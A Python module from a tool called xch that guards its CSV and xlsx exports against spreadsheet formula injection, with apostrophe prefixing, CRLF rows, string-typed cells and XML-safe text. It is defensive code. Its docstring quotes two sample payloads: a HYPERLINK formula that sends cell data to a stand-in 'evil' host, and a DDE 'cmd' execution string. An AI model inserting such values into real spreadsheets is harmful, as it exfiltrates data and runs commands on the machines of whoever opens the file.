"""Spreadsheet cells that stay data: the one guard against formula injection in every CSV and xlsx xch writes.

Why: Excel, LibreOffice and WPS read a CSV cell that begins with `=`, `+`, `-` or `@` as a formula
(`=HYPERLINK("http://evil/?"&A1)`, `=cmd|' /C calc'!A0`), and openpyxl stores such a string as a live
formula in an xlsx. Vendor names, imported list rows, check reasons and scanned file names all end up
in the spreadsheets xch writes (`whitelist export`, `whitelist query --csv`, `scan --format csv|xlsx`),
so every writer passes its cells through this module and nothing else decides what is safe.

- A text is *formula-like* when, after any leading whitespace and control characters (tab and CR are
  themselves triggers: some importers strip them and then look), it begins with `= + - @`.
- CSV (`csv_text`, cell by cell `csv_cell`): such a text gets a leading apostrophe, OWASP's advice;
  `'=1+1` stays readable, and `import-list` takes the apostrophe off again (`csv_uncell`) so an export
  re-imports unchanged. Rows end in CRLF (RFC 4180) because the csv module quotes a cell holding a
  line-end character only if it is in the line terminator: with a bare "\n" terminator a CR inside a
  cell went out unquoted, and Excel splits the row there (a row injected by a vendor name).
- xlsx (`xlsx_append`): every text is written as a string cell, never a formula; a formula-like one also
  gets the quote-prefix style, so Excel shows the text exactly as given and an edit keeps it text.
  Characters XML cannot carry (C0 controls, lone surrogates) become U+FFFD, CR becomes LF (as XML
  would read it back anyway), and a text longer than
  Excel's 32,767-character cell limit is cut with a marker, instead of a file that cannot be reopened.

Numbers, booleans and None are not text and pass through unchanged.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@")
_LEADING_NOISE = re.compile(r"^[\s\x00-\x1f\x7f]*")
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
XLSX_CELL_MAX = 32767
_CUT_MARK = " …[cut: longer than a spreadsheet cell holds]"


def formula_like(value: Any) -> bool:
    """Would a spreadsheet run this cell as a formula? (tab/CR first, or = + - @ after leading blanks)"""
    if not isinstance(value, str) or not value:
        return False
    if value[0] in "\t\r":
        return True
    return _LEADING_NOISE.sub("", value, count=1)[:1] in FORMULA_STARTS


def csv_cell(value: Any) -> Any:
    """The value as a CSV cell: formula-like text gets a leading apostrophe, everything else is unchanged."""
    return "'" + value if formula_like(value) else value


def csv_text(rows: Iterable[Mapping[str, Any]], fields: list[str]) -> str:
    """A whole CSV (header + rows, CRLF), every cell through `csv_cell`."""
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=fields, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows({k: csv_cell(v) for k, v in row.items()} for row in rows)
    return buf.getvalue()


def csv_uncell(text: str) -> str:
    """Undo `csv_cell` on text read back from a CSV xch (or a tool following the same advice) wrote."""
    return text[1:] if text.startswith("'") and formula_like(text[1:]) else text


def xlsx_text(value: str) -> str:
    """Text an xlsx can hold: no XML-illegal characters, at most one cell's worth."""
    text = _NOT_XML.sub("\ufffd", value.replace("\r\n", "\n").replace("\r", "\n"))  # XML reads CR as LF
    if len(text) > XLSX_CELL_MAX:
        text = text[: XLSX_CELL_MAX - len(_CUT_MARK)] + _CUT_MARK
    return text


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """Append one row to an openpyxl worksheet; text cells are strings, never formulas."""
    row = [xlsx_text(v) if isinstance(v, str) else v for v in values]
    sheet.append(row)
    at = sheet.max_row
    for column, value in enumerate(row, start=1):
        if isinstance(value, str):
            cell = sheet.cell(row=at, column=column)
            cell.data_type = "s"  # openpyxl made "=..." a formula ("f"); this keeps it text
            if formula_like(value):
                cell.quotePrefix = True
